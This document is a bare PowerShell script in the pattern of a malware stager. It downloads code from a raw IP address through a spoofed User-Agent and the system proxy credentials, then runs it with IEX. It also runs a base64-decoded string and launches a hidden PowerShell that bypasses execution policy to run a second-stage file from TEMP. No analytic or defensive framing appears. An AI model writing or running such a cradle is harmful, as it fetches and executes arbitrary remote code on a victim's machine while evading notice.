$u = 'http://' + '45.76.12.9' + '/a'
$w = New-Object Net.WebClient
$w.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$w.Proxy = [Net.WebRequest]::DefaultWebProxy
$w.Proxy.Credentials = [Net.CredentialCache]::DefaultNetworkCredentials

$s = $w.DownloadString($u)
IEX $s

$b64 = 'V3JpdGUtT3V0cHV0ICdzdGFnZSAyJw=='
$dec = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b64))
Invoke-Expression $dec

powershell.exe -NoP -NonI -W Hidden -ExecutionPolicy Bypass -File "$env:TEMP\s2.ps1"
